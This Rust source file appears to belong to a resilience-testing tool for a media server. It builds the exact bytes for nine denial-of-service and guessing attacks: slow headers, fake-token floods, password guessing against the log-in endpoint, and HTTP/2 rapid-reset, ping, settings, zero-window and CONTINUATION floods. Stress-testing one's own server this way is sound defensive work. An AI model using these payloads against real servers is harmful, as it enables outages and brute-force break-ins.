//! The attacks, and what each sends.

use clap::ValueEnum;

use crate::pod::UNKNOWN_TOKEN;

#[derive(Clone, Copy, PartialEq, Eq, Debug, ValueEnum)]
pub(crate) enum Attack {
    /// Connections that send nothing
    Connections,
    /// Heads of requests that come by one byte a second
    SlowHeads,
    /// Requests with made-up tokens
    Tokens,
    /// Log-ins with guessed passwords
    LogIns,
    /// HTTP/2: streams that are reset as they begin
    Resets,
    /// HTTP/2: pings
    Pings,
    /// HTTP/2: settings
    Settings,
    /// HTTP/2: answers that nobody takes, for want of a window
    ClosedWindows,
    /// HTTP/2: a head that never ends
    Continuations,
}

impl Attack {
    pub(crate) const ALL: [Attack; 9] = [
        Attack::Connections,
        Attack::SlowHeads,
        Attack::Tokens,
        Attack::LogIns,
        Attack::Resets,
        Attack::Pings,
        Attack::Settings,
        Attack::ClosedWindows,
        Attack::Continuations,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Attack::Connections => "connections",
            Attack::SlowHeads => "slow-heads",
            Attack::Tokens => "tokens",
            Attack::LogIns => "log-ins",
            Attack::Resets => "resets",
            Attack::Pings => "pings",
            Attack::Settings => "settings",
            Attack::ClosedWindows => "closed-windows",
            Attack::Continuations => "continuations",
        }
    }

    /// What a connection sends first.
    pub(super) fn first(self) -> Vec<u8> {
        match self {
            Attack::Connections | Attack::Tokens | Attack::LogIns => Vec::new(),
            Attack::SlowHeads => b"GET /Users/Me HTTP/1.1\r\nHost: slow\r\nX-Slow: ".to_vec(),
            Attack::Resets | Attack::Pings | Attack::Settings => opening(65_535),
            Attack::ClosedWindows => opening(0),
            Attack::Continuations => [opening(65_535), frame(HEADERS, 0, 1, &request_block())].concat(),
        }
    }

    /// What it sends again and again, the `turn`-th time; nothing if it only waits.
    pub(super) fn next(self, turn: u32) -> Vec<u8> {
        // Clients number their streams by odd numbers, upwards.
        let stream = |index: u32| (turn.wrapping_mul(STREAMS) + index).wrapping_mul(2) + 1;
        match self {
            Attack::Connections => Vec::new(),
            Attack::SlowHeads => b"x".to_vec(),
            Attack::Tokens => format!(
                "GET /Users/Me HTTP/1.1\r\nHost: flood\r\nAuthorization: MediaBrowser Client=\"f\", Device=\"f\", \
                 DeviceId=\"flood-{turn}\", Version=\"1\", Token=\"{UNKNOWN_TOKEN}{:016x}\"\r\n\r\n",
                u64::from(turn).wrapping_mul(0x9e37_79b9_7f4a_7c15)
            )
            .into_bytes(),
            Attack::LogIns => {
                let body = format!("{{\"Username\":\"guest\",\"Pw\":\"guess-{turn}\"}}");
                format!(
                    "POST /Users/AuthenticateByName HTTP/1.1\r\nHost: flood\r\nAuthorization: MediaBrowser Client=\"f\", \
                     Device=\"f\", DeviceId=\"flood\", Version=\"1\"\r\nContent-Type: application/json\r\n\
                     Content-Length: {}\r\n\r\n{body}",
                    body.len()
                )
                .into_bytes()
            }
            Attack::Resets => (0..STREAMS)
                .flat_map(|index| {
                    let request = frame(HEADERS, END_HEADERS | END_STREAM, stream(index), &request_block());
                    [request, frame(RST_STREAM, 0, stream(index), &8_u32.to_be_bytes())].concat()
                })
                .collect(),
            Attack::Pings => frame(PING, 0, 0, &[0; 8]).repeat(STREAMS as usize),
            Attack::Settings => frame(SETTINGS, 0, 0, &window(65_535)).repeat(STREAMS as usize),
            Attack::ClosedWindows if turn == 0 => (0..STREAMS)
                .flat_map(|index| frame(HEADERS, END_HEADERS | END_STREAM, stream(index), &request_block()))
                .collect(),
            Attack::ClosedWindows => Vec::new(),
            Attack::Continuations => frame(CONTINUATION, 0, 1, &field("x-more", &"y".repeat(100))).repeat(16),
        }
    }

    /// The attacker's connections at once, of as many as it may have.
    pub(super) fn connections(self, most: usize) -> usize {
        match self {
            Attack::Connections | Attack::SlowHeads => most,
            _ => most.min(8),
        }
    }

    /// An attack of questions waits for each answer, as a guesser does who wants to read it.
    pub(super) fn asks(self) -> bool {
        matches!(self, Attack::Tokens | Attack::LogIns)
    }

    /// An attack that only has to be there rests a second between what it sends.
    pub(super) fn rests(self) -> bool {
        matches!(self, Attack::Connections | Attack::SlowHeads | Attack::ClosedWindows)
    }
}

const STREAMS: u32 = 64;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The preface of a connection whose streams have this window.
fn opening(initial_window: u32) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &window(initial_window))].concat()
}

/// The setting `SETTINGS_INITIAL_WINDOW_SIZE`.
fn window(bytes: u32) -> Vec<u8> {
    [&4_u16.to_be_bytes()[..], &bytes.to_be_bytes()].concat()
}

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn request_block() -> Vec<u8> {
    [(":method", "GET"), (":scheme", "http"), (":authority", "flood"), (":path", "/Items")]
        .iter()
        .flat_map(|(name, value)| field(name, value))
        .collect()
}

/// A field without compression (RFC 7541, 6.2.2); name and value are shorter than 127 bytes.
fn field(name: &str, value: &str) -> Vec<u8> {
    [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_in_three_bytes() {
        assert_eq!(frame(PING, 0, 0, &[7; 8]), [0, 0, 8, 6, 0, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
    }

    #[test]
    fn streams_are_odd_and_rise() {
        let streams: Vec<u32> = (0..3)
            .flat_map(|turn| {
                let bytes = Attack::Resets.next(turn);
                let first = u32::from_be_bytes([bytes[5], bytes[6], bytes[7], bytes[8]]);
                [first]
            })
            .collect();
        assert_eq!(streams, [1, 129, 257]);
    }
}
